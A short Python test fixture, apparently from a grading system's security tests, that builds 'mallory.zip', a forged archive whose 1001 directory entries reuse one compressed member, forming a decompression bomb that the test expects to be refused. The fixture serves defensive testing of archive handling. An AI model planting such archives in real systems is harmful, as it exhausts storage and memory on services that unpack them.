"""A zip of which a thousand members share the same bytes, so that its size says nothing.

Tries: archive
Exercise: 01_yield
Earns: nothing
Seen: refused ... 
"""

import io
import struct
import zipfile


def plant(folder, outside):
    """Put it into the folder of a class."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("01_yield/generator.py", b"x = 1\n" + b"#" * (250 << 10))
    data = packed.getvalue()
    table = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    one = data[table:end]
    rows = b"".join(one.replace(b"generator.py", f"gener{number:04}.py".encode()[:12]) for number in range(1000))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1001, 1001, len(one + rows), table, 0)
    (folder / "mallory.zip").write_bytes(data[:table] + one + rows + tail)
